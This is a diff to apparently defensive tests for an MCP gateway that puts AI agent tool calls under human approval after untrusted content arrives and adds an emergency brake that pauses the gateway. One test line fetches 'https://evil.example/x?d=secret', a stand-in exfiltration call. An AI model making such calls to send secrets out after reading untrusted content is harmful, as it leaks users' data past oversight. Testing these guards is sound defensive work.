@@ -142,7 +142,7 @@ def test_a_session_is_governed_like_a_tainted_chat_turn(gw):
             assert "Rule of Two" in a["reason"] and "untrusted content: mcp-notes__lookup" in a["reason"]
             assert a["untrusted_args"], a
             r = await c.call_tool("mcp-notes__fetch", {"q": "https://elsewhere.example/"})  # fails closed too
-            assert r.is_error and "not reached earlier in this session" in srv.get(
+            assert r.is_error and "not reached earlier by this client" in srv.get(
                 "/api/approvals")[-1]["reason"]
             srv.post(f"/api/approvals/{aid}/approve", {})
             r = await c.call_tool("mcp-notes__fetch", {"q": "https://evil.example/x?d=secret"})
@@ -261,10 +261,13 @@ def test_progress_session_end_and_the_brake(gw):
             call = asyncio.create_task(c.call_tool("mcp-notes__save", {"q": "held"}))
             await asyncio.to_thread(wait_for, lambda: pending(srv), 10, 0.05, "the approval")
             assert (await asyncio.to_thread(cli, "stop", "--all")).returncode == 0
-            r = await call
-            assert r.is_error and "stopped" in text(r)
+            r = await call  # the waiting call ends, its approval cancelled (spec §5.7: the brake pauses the gateway)
+            assert r.is_error and "Palui is paused by the emergency brake" in text(r)
             r = await c.call_tool("mcp-notes__lookup", {"q": "after"})
-            assert r.is_error and "palui stop --all" in text(r)
+            assert r.is_error and "Palui is paused by the emergency brake" in text(r)
+            assert (await asyncio.to_thread(cli, "gateway", "resume")).returncode == 0
+            r = await c.call_tool("mcp-notes__lookup", {"q": "resumed"})  # the same session goes on
+            assert not r.is_error and "resumed" in text(r)
 
     asyncio.run(braked())
 
